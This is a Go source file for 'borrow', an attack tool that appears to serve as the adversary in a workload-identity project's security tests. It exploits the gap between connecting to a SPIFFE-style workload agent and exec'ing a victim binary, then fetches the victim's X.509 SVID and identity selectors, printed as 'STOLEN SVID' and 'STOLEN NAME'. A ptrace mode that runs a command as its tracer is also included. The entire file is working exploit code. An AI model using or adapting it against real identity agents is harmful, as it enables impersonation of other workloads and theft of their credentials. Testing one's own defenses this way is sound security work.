// Command borrow tries to speak in another program's name. It is what the
// stories attack with, and needs no rights that any process of a user lacks.
//
//	borrow connect SOCKET COMMAND…  connects to the agent, hands the connection
//	    to a child, executes COMMAND over itself once the agent has answered; the
//	    child then asks for what COMMAND would be given, and kills it
//	borrow rush SOCKET COMMAND…  the same without waiting: the agent may look
//	    for the first time when it is COMMAND already
//	borrow trace COMMAND…  runs COMMAND as its tracer, which could edit its memory
package main

import (
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"syscall"
	"time"

	workloadpb "github.com/spiffe/go-spiffe/v2/proto/spiffe/workload"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"
	"google.golang.org/grpc/metadata"

	workloadv1 "github.com/rootlink/rootlink/proto/rootlink/workload/v1"
)

func main() {
	err := errors.New("usage: borrow connect SOCKET COMMAND… | borrow rush SOCKET COMMAND… | borrow trace COMMAND…")
	switch {
	case len(os.Args) > 3 && (os.Args[1] == "connect" || os.Args[1] == "rush"):
		err = connect(os.Args[2], os.Args[3:], os.Args[1] == "connect")
	case len(os.Args) > 2 && os.Args[1] == "ask":
		err = ask(os.Args[2])
	case len(os.Args) > 2 && os.Args[1] == "trace":
		err = trace(os.Args[2:])
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "borrow:", err)
		os.Exit(1)
	}
}

func connect(socket string, command []string, wait bool) error {
	path, err := exec.LookPath(command[0])
	if err != nil {
		return err
	}
	if path, err = filepath.EvalSymlinks(path); err != nil {
		return err
	}
	c, err := net.DialUnix("unix", nil, &net.UnixAddr{Name: socket, Net: "unix"})
	if err != nil {
		return err
	}
	file, err := c.File()
	if err != nil {
		return err
	}
	child := exec.Command("/proc/self/exe", "ask", path)
	answered, say, err := os.Pipe()
	if err != nil {
		return err
	}
	child.ExtraFiles = []*os.File{file, say}
	child.Stdout, child.Stderr = os.Stdout, os.Stderr
	if err := child.Start(); err != nil {
		return err
	}
	if wait {
		if _, err := answered.Read(make([]byte, 1)); err != nil {
			return err
		}
	}
	return syscall.Exec(path, command, os.Environ())
}

// ask has the agent answer its parent, waits until that is the victim, and
// speaks in its name.
func ask(victim string) error {
	parent := os.Getppid()
	defer syscall.Kill(parent, syscall.SIGKILL)
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	c, err := net.FileConn(os.NewFile(3, "agent"))
	if err != nil {
		return err
	}
	conn, err := grpc.NewClient("passthrough:///agent", grpc.WithTransportCredentials(insecure.NewCredentials()),
		grpc.WithAuthority("localhost"), grpc.WithContextDialer(func(context.Context, string) (net.Conn, error) { return c, nil }))
	if err != nil {
		return err
	}
	defer conn.Close()
	ctx = metadata.AppendToOutgoingContext(ctx, "workload.spiffe.io", "true")
	say := os.NewFile(4, "answered")
	who, err := workloadv1.NewIssuerClient(conn).Whoami(ctx, &workloadv1.WhoamiRequest{})
	fmt.Println("before:", who.GetMeasurement().GetSelectors(), err)
	say.Write([]byte{1}) // its reader may be the victim by now
	say.Close()

	for link := ""; link != victim; {
		if ctx.Err() != nil {
			return ctx.Err()
		}
		// The link of a setgid program cannot be read by its user; then the
		// file that it names is not ours any more, which is as good a sign.
		if link, err = os.Readlink(fmt.Sprintf("/proc/%d/exe", parent)); errors.Is(err, os.ErrPermission) {
			break
		}
	}
	stream, err := workloadpb.NewSpiffeWorkloadAPIClient(conn).FetchX509SVID(ctx, &workloadpb.X509SVIDRequest{})
	if err == nil {
		var resp *workloadpb.X509SVIDResponse
		if resp, err = stream.Recv(); err == nil {
			fmt.Println("STOLEN SVID", resp.Svids[0].SpiffeId)
		}
	}
	fmt.Println("svid:", err)
	who, err = workloadv1.NewIssuerClient(conn).Whoami(ctx, &workloadv1.WhoamiRequest{})
	if err == nil {
		fmt.Println("STOLEN NAME", who.GetMeasurement().GetSelectors())
	}
	fmt.Println("whoami:", err)
	return nil
}

func trace(command []string) error {
	runtime.LockOSThread() // ptrace belongs to a thread
	cmd := exec.Command(command[0], command[1:]...)
	cmd.Stdin, cmd.Stdout, cmd.Stderr = os.Stdin, os.Stdout, os.Stderr
	cmd.SysProcAttr = &syscall.SysProcAttr{Ptrace: true}
	if err := cmd.Start(); err != nil {
		return err
	}
	pid := cmd.Process.Pid
	for first := true; ; first = false {
		var ws syscall.WaitStatus
		if _, err := syscall.Wait4(pid, &ws, 0, nil); err != nil {
			return err
		}
		switch {
		case ws.Exited():
			os.Exit(ws.ExitStatus())
		case ws.Signaled():
			os.Exit(128 + int(ws.Signal()))
		case ws.Stopped():
			sig := int(ws.StopSignal())
			if first || ws.StopSignal() == syscall.SIGTRAP {
				sig = 0 // the stop at exec
			}
			if err := syscall.PtraceCont(pid, sig); err != nil {
				return err
			}
		}
	}
}
